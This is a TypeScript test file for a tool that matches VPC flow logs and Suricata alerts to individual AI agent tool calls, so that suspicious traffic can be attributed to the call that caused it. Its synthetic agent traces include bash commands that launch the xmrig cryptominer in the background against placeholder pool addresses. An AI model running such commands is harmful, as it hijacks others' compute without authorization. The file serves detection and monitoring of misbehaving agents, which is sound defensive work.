  // a fixed offset has no such hours
  const fixed = new TsParser({ tz: '+01:00' });
  fixed.parse('2024-10-27 02:30:00');
  assert.doesNotMatch(fixed.note() ?? '', /lived twice|skipped/);
});

test('VPC flow logs with pkt-srcaddr / pkt-dstaddr: a pod\'s flow behind its node\'s interface is keyed by the pod\'s address (native and JavaScript readers), srcaddr where pkt-srcaddr is "-"', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-vpc-pkt-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const log = join(dir, 'flows.log');
  const t0 = 1714564800;
  // row 1: the node's ENI 10.0.9.9 carried pod 10.0.0.5's connection to a pool; row 2: no packet-level address (the ENI's own)
  writeFileSync(log, [
    '${version} ${interface-id} ${srcaddr} ${dstaddr} ${pkt-srcaddr} ${pkt-dstaddr} ${dstport} ${protocol} ${start} ${end} ${action} ${log-status}',
    ...Array.from({ length: 30 }, (_, i) => `5 eni-0node 10.0.9.9 203.0.113.51 10.0.0.5 203.0.113.51 14444 6 ${t0 + 10 + i} ${t0 + 11 + i} ACCEPT OK`),
    `5 eni-0node 10.0.0.7 198.51.100.10 - - 443 6 ${t0 + 20} ${t0 + 21} ACCEPT OK`,
    // background from many sources so the pool's address is rare
    ...Array.from({ length: 40 }, (_, i) => `5 eni-0other 10.1.0.${i + 1} 198.51.100.10 - - 443 6 ${t0 + i} ${t0 + i + 1} ACCEPT OK`),
  ].join('\n') + '\n');
  const js = await readNet(log);
  assert.deepEqual([js.recs[0]!.src, js.recs[0]!.dst, js.recs[30]!.src], ['10.0.0.5', '203.0.113.51', '10.0.0.7']);
  assert.match(js.st.tsNote ?? '', /pkt-srcaddr\/pkt-dstaddr in the field list/);
  const trace = join(dir, 'trace.jsonl');
  const iso = (s: number): string => new Date(s * 1000).toISOString();
  writeFileSync(trace, [
    `{"run":"r","episode":"e1","step":1,"tool_call_id":"c1","tool":"bash","command":"nohup ./xmrig -o 203.0.113.51:14444 &","ts":"${iso(t0 + 5)}","end_ts":"${iso(t0 + 8)}","ip":"10.0.0.5"}`,
    `{"run":"r","episode":"e2","step":1,"tool_call_id":"c2","tool":"bash","command":"ls","ts":"${iso(t0 + 5)}","end_ts":"${iso(t0 + 60)}","ip":"10.0.9.9"}`,
  ].join('\n') + '\n');
  // (the full path reads flows natively when the addon is built; these rows must come through the JavaScript reader with the same answer)
  const r = await investigate({ logs: [{ path: log }], traces: [{ path: trace }], rules: 'off', jobs: 1, lagMs: 30 * 60_000 });
  const inc = r.incidents.find((i) => i.alerts.some((a) => r.alerts[a]!.dst === '203.0.113.51'));
  assert.ok(inc, JSON.stringify(r.incidents.map((i) => i.source)));
  assert.equal(inc.source.includes('10.0.0.5'), true, inc.source);
  assert.deepEqual(inc.attributed.map((a) => r.calls[a.call]!.tool_call_id), ['c1'], 'the pod\'s call, not the node\'s');
});

test('Suricata before 7 (no "direction", no flow.src_ip): an alert on the pool\'s reply is turned around by its ports and blamed on the call; an inbound scan and a to_client alert without flow.* read right', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-eve6-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const log = join(dir, 'eve.json');
  const t0 = Date.UTC(2024, 4, 1, 12, 0, 0);
  const ts = (ms: number): string => new Date(ms).toISOString().replace('Z', '+0000');
  const alert = (ms: number, src: string, sp: number, dst: string, dp: number, sig: string, extra: Record<string, unknown> = {}) =>
    JSON.stringify({ timestamp: ts(ms), event_type: 'alert', src_ip: src, src_port: sp, dest_ip: dst, dest_port: dp, proto: 'TCP',
      alert: { action: 'allowed', signature: sig, category: 'Crypto Currency Mining Activity Detected', severity: 1 }, flow: { pkts_toserver: 3, start: ts(ms - 500) }, ...extra });
  writeFileSync(log, [
    // the pool's job notification to the agent's ephemeral port: Suricata 6 writes the pool as src
    alert(t0 + 10_000, '203.0.113.60', 3333, '10.0.0.5', 45000, 'ET COINMINER Stratum mining.notify from pool'),
    // an inbound scan of the fleet host (ephemeral source port to a service port): stays as it is
    alert(t0 + 11_000, '198.51.100.7', 51000, '10.0.0.8', 22, 'ET SCAN inbound SSH'),
    // Suricata 7 without flow.*: direction alone turns it around
    alert(t0 + 12_000, '203.0.113.61', 40000, '10.0.0.6', 41000, 'ET COINMINER job', { direction: 'to_client' }),
    // both ports ephemeral: no guess
    alert(t0 + 13_000, '203.0.113.62', 50000, '10.0.0.9', 50001, 'ET P2P'),
  ].join('\n') + '\n');
  const { recs, st } = await readNet(log);
  assert.deepEqual(recs.map((r) => [r.src, r.sport, r.dst, r.dport]), [
    ['10.0.0.5', 45000, '203.0.113.60', 3333],
    ['198.51.100.7', 51000, '10.0.0.8', 22],
    ['10.0.0.6', 41000, '203.0.113.61', 40000],
    ['203.0.113.62', 50000, '10.0.0.9', 50001],
  ]);
  assert.match(st.tsNote ?? '', /1 alerts on reply packets \(no "direction": Suricata before 7\) read by their ports.*\(first at line 1\)/);
  const trace = join(dir, 'trace.jsonl');
  const iso = (ms: number): string => new Date(ms).toISOString();
  writeFileSync(trace, [
    `{"run":"r","episode":"e1","step":1,"tool_call_id":"c1","tool":"bash","command":"nohup ./xmrig -o 203.0.113.60:3333 &","ts":"${iso(t0 + 5_000)}","end_ts":"${iso(t0 + 8_000)}","ip":"10.0.0.5"}`,
    `{"run":"r","episode":"e2","step":1,"tool_call_id":"c2","tool":"bash","command":"ls","ts":"${iso(t0 + 5_000)}","end_ts":"${iso(t0 + 60_000)}","ip":"10.0.0.7"}`,
  ].join('\n') + '\n');
  const r = await investigate({ logs: [{ path: log }], traces: [{ path: trace }], rules: 'off', jobs: 1, lagMs: 30 * 60_000 });
  const inc = r.incidents.find((i) => i.alerts.some((a) => r.alerts[a]!.dst === '203.0.113.60'));
  assert.ok(inc, JSON.stringify(r.incidents.map((i) => i.source)));
  assert.deepEqual(inc.attributed.map((a) => r.calls[a.call]!.tool_call_id), ['c1']);
});
